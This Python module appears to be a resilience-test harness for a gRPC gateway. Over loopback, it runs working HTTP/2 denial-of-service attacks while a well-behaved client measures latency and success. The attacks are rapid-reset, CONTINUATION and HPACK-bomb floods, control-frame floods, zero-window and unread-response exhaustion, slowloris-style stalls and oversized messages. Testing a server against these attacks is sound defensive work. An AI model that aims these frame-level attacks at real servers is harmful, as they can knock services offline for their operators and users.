"""HTTP/2 attacks on a running gateway while a well-behaved client calls it.

Each attack runs from a few connections for a few seconds, on loopback only, while a good client calls
`grpc.health.v1.Health/Check` (through every interceptor) at a fixed rate. Per attack it reports the gateway's
peak RSS growth and CPU, the good client's success rate and latency percentiles, and whether the gateway is
still running. Used by `test_attacks.py` (the pass criteria that do not depend on timing) and by
`scripts/attack` (all of them, with the p99 compared to a baseline run without an attack).

The attacks (the CVE names the published attacks of the kind):
- rapid-reset: HEADERS then RST_STREAM at once, over and over (CVE-2023-44487);
- stream-id-exhaustion: the last 100 stream ids a connection has, then a used one, over and over;
- continuation-flood: a HEADERS frame without END_HEADERS and endless CONTINUATION frames (CVE-2024-27316);
- hpack-bomb: a 4 KiB header put into the HPACK table once, then referenced thousands of times a request;
- settings-flood, ping-flood, priority-flood, window-update-flood: control frames as fast as they go, never
  reading the answers;
- zero-window: SETTINGS_INITIAL_WINDOW_SIZE 0 and many open server-streaming calls that can never send;
- slow-headers: a request's HEADERS without END_HEADERS, then silence (slowloris);
- half-preface: half a connection preface, then silence;
- idle-connections: many connections that complete the preface and send nothing else;
- large-messages: many streams that each declare a 4 MiB request message and send as much of it as the
  windows allow, never finishing it.
"""

import multiprocessing
import os
import pathlib
import socket
import struct
import threading
import time

import grpc
import h2.config
import h2.connection
import hpack
from grpc_health.v1 import health_pb2, health_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(type_, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([type_, flags]) + stream.to_bytes(4, "big") + payload


def settings(**entries):
    ids = {"initial_window_size": 4, "max_frame_size": 5}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", ids[k], v) for k, v in entries.items()))


def grpc_request_headers(path, port, encoder):
    return encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", path),
                           (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
                           ("te", "trailers")])


def grpc_message(payload=b""):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class Attacker:
    """One attacking connection: reconnects whenever the gateway closes it, until `stop` is set."""

    def __init__(self, port, stop):
        self.port, self.stop = port, stop
        self.sock = None
        self.connections = 0

    def connect(self, initial=b""):
        self.close()
        self.sock = socket.create_connection(("127.0.0.1", self.port), timeout=2)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.connections += 1
        if initial:
            self.sock.sendall(initial)

    def send(self, data):
        """False when the gateway has closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
            return False

    def drain(self):
        """Reads whatever arrived, without blocking; False when the connection is closed."""
        self.sock.setblocking(False)
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    return False
        except BlockingIOError:
            return True
        except OSError:
            return False
        finally:
            self.sock.setblocking(True)

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def rapid_reset(port, stop):
    a = Attacker(port, stop)
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings())
        stream = 1
        while not stop.is_set() and stream < 2**31 - 2:
            burst = b""
            for _ in range(100):
                burst += frame(HEADERS, END_HEADERS, stream, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder))
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                stream += 2
            if not a.send(burst) or not a.drain():
                break
    a.close()
    return a.connections


def stream_id_exhaustion(port, stop):
    """The last 100 client stream ids (up to 2^31-1, RFC 9113 §5.1.1) in one burst of complete requests, then a
    request on a used id; the attacker reads the answers for a moment and starts over on a new connection, as
    a client out of stream ids must. (libnghttp2 ignores the used id rather than ending the connection:
    nghttp2/nghttp2#1300, listed among the deviations in docs/design-notes.md.)"""
    a = Attacker(port, stop)
    last = 2**31 - 1
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings())
        burst = b""
        for stream in range(last - 2 * 99, last + 1, 2):
            burst += frame(HEADERS, END_HEADERS, stream, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder))
            burst += frame(DATA, END_STREAM, stream, grpc_message())
        burst += frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder))
        if a.send(burst):
            a.sock.settimeout(0.05)
            try:
                while a.sock.recv(1 << 16):
                    pass
            except OSError:
                pass
    a.close()
    return a.connections


def continuation_flood(port, stop):
    a = Attacker(port, stop)
    junk = hpack.Encoder().encode([("x-junk", "j" * 1000)])
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings())
        ok = a.send(frame(HEADERS, 0, 1, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder)))
        while ok and not stop.is_set():
            ok = a.send(frame(CONTINUATION, 0, 1, junk) * 20) and a.drain()
    a.close()
    return a.connections


def hpack_bomb(port, stop):
    a = Attacker(port, stop)
    while not stop.is_set():
        a.connect(PREFACE + settings())
        encoder = hpack.Encoder()
        # Once: a 4 KiB value into the dynamic table (index 62). Then each request refers to it 4,000 times:
        # 4 KB on the wire, 16 MB of header list once decoded.
        first = grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder)
        first += encoder.encode([("x-bomb", "b" * 4000)])
        stream = 1
        ok = a.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, first))
        while ok and not stop.is_set():
            stream += 2
            block = grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder) + bytes([0x80 | 62]) * 4000
            ok = a.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)) and a.drain()
    a.close()
    return a.connections


def control_flood(make):
    def attack(port, stop):
        a = Attacker(port, stop)
        while not stop.is_set():
            a.connect(PREFACE + settings())
            ok, i = True, 0
            while ok and not stop.is_set():
                ok = a.send(b"".join(make(i + k) for k in range(200)))
                i += 200
        a.close()
        return a.connections
    return attack


settings_flood = control_flood(lambda i: settings())
ping_flood = control_flood(lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))
priority_flood = control_flood(lambda i: frame(PRIORITY, 0, 2 * i + 1, struct.pack(">I", 0) + bytes([15])))
window_update_flood = control_flood(lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def zero_window(port, stop):
    """Health/Watch streams (public, server streaming) with a zero window: the answers can never be sent."""
    a = Attacker(port, stop)
    held = []
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings(initial_window_size=0))
        request = grpc_message(health_pb2.HealthCheckRequest(service="").SerializeToString())
        burst = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, grpc_request_headers("/grpc.health.v1.Health/Watch", port, encoder))
                         + frame(DATA, END_STREAM, 2 * i + 1, request) for i in range(900))
        if a.send(burst):
            held.append(a.sock)
            a.sock = None
            stop.wait(1.0)
        if len(held) >= 4:
            stop.wait()
    for sock in held:
        sock.close()
    a.close()
    return len(held)


def unread_responses(port, stop, streams=200, requests=600):
    """Reflection streams (public, bidirectional) with a zero window, each asking for the same file descriptor
    over and over and reading none of the answers. Each stream may queue 1 MiB of answers before its handler
    waits; without a bound across the connection's streams, 200 such streams held 200 MiB."""
    a = Attacker(port, stop)
    name = b"gateway/event/v1/event_service.proto"
    request = grpc_message(b"\x1a" + bytes([len(name)]) + name)  # ServerReflectionRequest.file_by_filename = 3
    per_frame = 16384 // len(request)
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings(initial_window_size=0))
        path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
        out = []
        for i in range(streams):
            out.append(frame(HEADERS, END_HEADERS, 2 * i + 1, grpc_request_headers(path, port, encoder)))
            for start in range(0, requests, per_frame):
                out.append(frame(DATA, 0, 2 * i + 1, request * min(per_frame, requests - start)))
        if a.send(b"".join(out)):
            stop.wait()
    a.close()
    return a.connections


def large_messages(port, stop, streams=100):
    """Keeps `streams` requests open, each declaring a message of the maximum size and sending it as fast as
    flow control allows, never to the end; streams the gateway ends are replaced. A message larger than a
    stream's window has to be given back before its handler can read it; when the gateway did that for every
    stream, one connection could hold 4 MiB per stream (100 streams: 400 MiB)."""
    a = Attacker(port, stop)
    declared = grpc_message()[:1] + struct.pack(">I", (4 << 20) - 16)
    while not stop.is_set():
        encoder = hpack.Encoder()
        a.connect(PREFACE + settings())
        connection_window, initial, windows, sent, next_id, pending = 65535, 65535, {}, {}, 1, b""
        while not stop.is_set():
            out = []
            while len(windows) < streams and next_id < 2**31 - 1:
                out.append(frame(HEADERS, END_HEADERS, next_id, grpc_request_headers("/grpc.health.v1.Health/Check", port, encoder)))
                windows[next_id], sent[next_id] = initial, 0
                next_id += 2
            for stream in windows:
                # The length prefix first, then filler: the declared length is never reached.
                size = min(16384, windows[stream], connection_window)
                if size < 5:
                    continue
                out.append(frame(DATA, 0, stream, (b"" if sent[stream] else declared).ljust(size, b"\0")))
                windows[stream] -= size
                sent[stream] += size
                connection_window -= size
            if out and not a.send(b"".join(out)):
                break
            a.sock.settimeout(0.01 if not out else 0.0005)
            try:
                chunk = a.sock.recv(1 << 16)
                if not chunk:
                    break
                pending += chunk
            except (BlockingIOError, socket.timeout):
                pass
            except OSError:
                break
            goaway = False
            while len(pending) >= 9:
                length = int.from_bytes(pending[:3], "big")
                if len(pending) < 9 + length:
                    break
                type_, flags, stream = pending[3], pending[4], int.from_bytes(pending[5:9], "big") & 0x7FFFFFFF
                payload, pending = pending[9:9 + length], pending[9 + length:]
                if type_ == WINDOW_UPDATE:
                    increment = int.from_bytes(payload[:4], "big")
                    if stream == 0:
                        connection_window += increment
                    elif stream in windows:
                        windows[stream] += increment
                elif type_ == SETTINGS and not flags & 1:
                    for i in range(0, len(payload), 6):
                        key, value = struct.unpack(">HI", payload[i:i + 6])
                        if key == 4:
                            for s in windows:
                                windows[s] += value - initial
                            initial = value
                    a.send(frame(SETTINGS, 1, 0))
                elif type_ == RST_STREAM or (type_ == HEADERS and flags & END_STREAM):
                    windows.pop(stream, None)
                    sent.pop(stream, None)
                elif type_ == GOAWAY:
                    goaway = True
            if goaway:
                break
    a.close()
    return a.connections


def silent_connections(initial, count):
    def attack(port, stop):
        socks = []
        for _ in range(count):
            if stop.is_set():
                break
            try:
                sock = socket.create_connection(("127.0.0.1", port), timeout=2)
                sock.sendall(initial(port))
                socks.append(sock)
            except OSError:
                time.sleep(0.01)
        stop.wait()
        for sock in socks:
            sock.close()
        return len(socks)
    return attack


slow_headers = silent_connections(
    lambda port: PREFACE + settings() + frame(HEADERS, 0, 1, grpc_request_headers("/grpc.health.v1.Health/Check", port, hpack.Encoder())),
    500)
half_preface = silent_connections(lambda port: PREFACE[:12], 500)
idle_connections = silent_connections(lambda port: PREFACE + settings(), 500)

ATTACKS = {
    "rapid-reset": (rapid_reset, 4),
    "continuation-flood": (continuation_flood, 4),
    "stream-id-exhaustion": (stream_id_exhaustion, 2),
    "hpack-bomb": (hpack_bomb, 4),
    "settings-flood": (settings_flood, 4),
    "ping-flood": (ping_flood, 4),
    "priority-flood": (priority_flood, 4),
    "window-update-flood": (window_update_flood, 4),
    "zero-window": (zero_window, 1),
    "slow-headers": (slow_headers, 1),
    "half-preface": (half_preface, 1),
    "idle-connections": (idle_connections, 1),
    "large-messages": (large_messages, 1),
    "unread-responses": (unread_responses, 1),
}


class GoodClient:
    """Health/Check at a fixed rate from one grpcio channel; each call has a 2 s deadline."""

    def __init__(self, port, rate=50):
        self.port, self.interval = port, 1.0 / rate
        self.latencies, self.failures = [], []

    def run(self, stop):
        with grpc.insecure_channel(f"127.0.0.1:{self.port}") as channel:
            stub = health_pb2_grpc.HealthStub(channel)
            stub.Check(health_pb2.HealthCheckRequest(), timeout=10)  # connected before the clock starts
            next_at = time.monotonic()
            while not stop.is_set():
                started = time.monotonic()
                try:
                    stub.Check(health_pb2.HealthCheckRequest(), timeout=2)
                    self.latencies.append(time.monotonic() - started)
                except grpc.RpcError as error:
                    self.failures.append(error.code().name)
                next_at += self.interval
                stop.wait(max(0.0, next_at - time.monotonic()))

    @property
    def calls(self):
        return len(self.latencies) + len(self.failures)

    def percentile(self, p):
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * p))]


def rss_kib(pid):
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    return 0


def cpu_seconds(pid):
    fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / 100.0  # utime + stime, in clock ticks (100 Hz)


def attacker_process(attack, port, stop):
    # Lowest priority: on a machine of two cores the attackers would otherwise take the CPU from the good client
    # and the gateway alike, and the good client's latency would measure the attackers, not the gateway.
    os.nice(19)
    attack(port, stop)


def run(proc, name, seconds=4.0):
    """Runs attack `name` (None: no attack, the baseline) with the good client; returns the measurements.
    Attackers run in processes of their own, so that they do not hold the good client's interpreter lock."""
    stop = threading.Event()
    good = GoodClient(proc.port)
    good_thread = threading.Thread(target=good.run, args=(stop,), daemon=True)
    attack, connections = ATTACKS[name] if name else (None, 0)
    context = multiprocessing.get_context("fork")
    stop_attackers = context.Event()
    attackers = [context.Process(target=attacker_process, args=(attack, proc.port, stop_attackers), daemon=True)
                 for _ in range(connections)]
    start_rss, start_cpu = rss_kib(proc.pid), cpu_seconds(proc.pid)
    peak = start_rss
    for attacker in attackers:
        attacker.start()
    good_thread.start()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and proc.poll() is None:
        peak = max(peak, rss_kib(proc.pid))
        time.sleep(0.05)
    stop.set()
    stop_attackers.set()
    good_thread.join(timeout=10)
    for attacker in attackers:
        attacker.join(timeout=10)
        if attacker.is_alive():
            attacker.kill()
    alive = proc.poll() is None
    return {
        "attack": name or "(none)",
        "alive": alive,
        "calls": good.calls,
        "success": len(good.latencies) / good.calls if good.calls else 0.0,
        "failures": sorted(set(good.failures)),
        "p50_ms": good.percentile(0.50) * 1000,
        "p99_ms": good.percentile(0.99) * 1000,
        "rss_growth_mib": (peak - start_rss) / 1024,
        "cpu_percent": 100 * (cpu_seconds(proc.pid) - start_cpu) / seconds if alive else float("nan"),
    }


def table(results):
    lines = ["| attack | gateway | good calls | success | p50 ms | p99 ms | peak RSS growth MiB | gateway CPU % |",
             "|---|---|---|---|---|---|---|---|"]
    for r in results:
        lines.append(f"| {r['attack']} | {'running' if r['alive'] else 'DEAD'} | {r['calls']} | {r['success']:.1%} | "
                     f"{r['p50_ms']:.1f} | {r['p99_ms']:.1f} | {r['rss_growth_mib']:.1f} | {r['cpu_percent']:.0f} |")
    return "\n".join(lines)
